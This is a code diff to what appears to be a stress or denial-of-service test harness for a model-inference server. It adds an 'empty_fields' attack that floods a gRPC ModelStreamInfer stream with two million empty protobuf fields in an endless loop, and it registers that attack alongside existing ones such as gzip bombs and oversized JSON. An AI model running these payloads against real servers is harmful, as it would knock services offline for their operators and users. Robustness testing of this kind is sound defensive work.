@@ -250,6 +250,17 @@ def many_strings(http: str, grpc: str) -> None:
             time.sleep(0.3)
 
 
+def empty_fields(http: str, grpc: str) -> None:
+    """Two million fields in a message of a stream, all of them empty."""
+    body = message(b"\x3a\x00" * 2_000_000)
+    pieces = [body[start : start + 16_000] for start in range(0, len(body), 16_000)]
+    with RawConnection(grpc) as connection:
+        reading_aside(connection.socket)
+        connection.send(connection.headers(1, head(SERVICE + "ModelStreamInfer")))
+        while True:
+            connection.send(*(frame(DATA, 0, 1, piece) for piece in pieces))
+
+
 def long_json(http: str, grpc: str) -> None:
     """A tensor of 20 MB as JSON, in."""
     post_json(http, json.dumps([1.5] * 5_000_000).encode())
@@ -309,7 +320,15 @@ ATTACKS: dict[str, Callable[[str, str], None]] = {
             endless_url,
             tiny_chunks,
         ),
-        *(gzip_bomb, packed_messages, many_strings, long_json, nested_json, long_json_answer),
+        *(
+            gzip_bomb,
+            packed_messages,
+            many_strings,
+            empty_fields,
+            long_json,
+            nested_json,
+            long_json_answer,
+        ),
     )
 }
 
